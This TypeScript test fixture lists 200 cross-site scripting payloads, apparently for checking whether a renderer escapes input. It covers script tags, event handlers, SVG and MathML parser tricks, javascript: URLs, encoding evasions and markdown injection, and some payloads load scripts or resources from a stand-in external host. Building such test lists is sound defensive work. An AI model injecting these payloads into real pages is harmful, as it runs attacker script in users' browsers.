/** 200 texts that would run a script in a page that forgot to escape somewhere. Each calls `alert`, which the test watches, or fetches from elsewhere. */
const elsewhere = 'https://elsewhere.example';
const handlers = ['onerror', 'onload', 'onclick', 'onfocus', 'onmouseover', 'onanimationstart', 'ontoggle', 'onpointerenter', 'onbegin', 'onpageshow'];
const elements = [
  'img',
  'svg',
  'body',
  'input autofocus',
  'details open',
  'video',
  'audio',
  'object',
  'iframe',
  'marquee',
  'a',
  'select autofocus',
  'style',
  'math',
  'x',
];
const breakouts = [
  '',
  '"',
  "'",
  '">',
  "'>",
  '-->',
  '</title>',
  '</style>',
  '</script>',
  '</textarea>',
  '</svg>',
  '</select>',
  '</time>',
  ']]>',
  '`',
  '</noscript>',
];

const scripts = [
  '<script>alert(1)</script>',
  '<SCRIPT>alert(1)</SCRIPT>',
  `<script src=${elsewhere}/x.js></script>`,
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script\u0000>alert(1)</script>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x"/></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<iframe src="javascript:parent.alert(1)"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button autofocus>x</button></form>',
  '<base href="https://elsewhere.example/">',
  `<meta http-equiv="refresh" content="0;url=${elsewhere}">`,
  `<link rel="stylesheet" href="${elsewhere}/x.css">`,
  `<style>@import "${elsewhere}/x.css";</style>`,
  `<style>*{background:url(${elsewhere}/x.png)}</style>`,
  `<img src="${elsewhere}/x.png">`,
  `<b style="background:url(${elsewhere}/x.png)">x</b>`,
  '\u2028<img src=x onerror=alert(1)>\u2029',
  '&lt;img src=x onerror=alert(1)&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '{{constructor.constructor("alert(1)")()}}',
  '#{alert(1)}',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
];

const markdown = [
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](https://a.example "onclick=alert(1)")',
  '[x](<https://a.example" onfocus=alert(1) autofocus x=">)',
  '[x]: javascript:alert(1)\n\n[x]',
  '<javascript:alert(1)>',
  '![x" onerror=alert(1) y="](x)',
  `![x](${elsewhere}/x.png)`,
  '![x](x"onerror="alert(1))',
  '```"><img src=x onerror=alert(1)>\nx\n```',
  '`<img src=x onerror=alert(1)>`',
  '| <img src=x onerror=alert(1)> |\n|---|\n| <svg onload=alert(1)> |',
  '# <img src=x onerror=alert(1)>',
  '> <img src=x onerror=alert(1)>',
  '1. <img src=x onerror=alert(1)>',
  '*<img src=x onerror=alert(1)>*',
  '<a href="javascript:alert(1)" autofocus onfocus=alert(1)>x</a>',
  '<details open ontoggle=alert(1)>',
  '<p><style><!--</style><img src=x onerror=alert(1)>-->',
  '<!--><img src=x onerror=alert(1)>-->',
  '<b><![CDATA[<img src=x onerror=alert(1)>]]></b>',
];

const crossed = breakouts.flatMap((breakout, row) =>
  Array.from({ length: 9 }, (_, column) => {
    const element = elements[(row * 7 + column * 4) % elements.length]!;
    const handler = handlers[(row + column) % handlers.length]!;
    return `${breakout}<${element} src=x href=x ${handler}=alert(1)>`;
  }),
);

export const payloads: readonly string[] = [...scripts, ...markdown, ...crossed].slice(0, 200);
